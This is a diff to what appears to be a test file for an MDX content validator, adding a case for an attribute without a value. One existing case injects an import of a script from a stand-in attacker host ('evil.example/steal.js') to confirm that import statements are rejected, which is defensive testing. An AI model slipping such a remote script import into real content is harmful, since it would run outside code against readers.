@@ -48,6 +48,11 @@ const CASES: Array<{ name: string; change: (t: string) => string; problem: RegEx
     problem: /^content\/en\/intro\.mdx:19 <Callout onClick>: not an attribute of <Callout> \(it takes kind, title\)/,
   },
   {
+    name: 'an attribute without a value',
+    change: (t) => t.replace('title="Start early"', 'title'),
+    problem: /^content\/en\/intro\.mdx:19 <Callout title>: give it a value in double quotes/,
+  },
+  {
     name: 'an import statement',
     change: (t) => t.replace('---\n\nThe programme', "---\n\nimport steal from 'https://evil.example/steal.js'\n\nThe programme"),
     problem: /^content\/en\/intro\.mdx:13 import\/export statement is not allowed/,
